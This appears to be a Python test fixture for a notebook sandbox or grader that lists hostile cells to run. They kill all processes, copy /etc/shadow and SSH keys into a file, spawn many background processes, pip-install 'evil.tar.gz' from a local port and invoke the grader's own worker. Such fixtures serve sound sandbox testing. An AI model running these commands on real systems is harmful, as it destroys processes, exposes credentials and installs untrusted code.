"""Uses the notebook's commands: a shell, other languages, other files, packages from the net."""

FAMILY = "touch the host"
EXPECTED = ("ok", "crashed", "timeout")
HONEST = 2
SOLVED = ("double",)
CELLS = {
    "largest": "!kill -9 $PPID; kill -9 -1; cat /etc/shadow ~/.ssh/* > FOUND",
    "account": "%%bash\nfor i in $(seq 50); do (sleep 1000 &) ; done\necho FOUND >&4",
}
LAST = """
%pip install http://127.0.0.1:@PORT@/evil.tar.gz
%load_ext autoreload
%run /grader/autograder/worker/__main__.py
%reset -f
%autoindent
"""
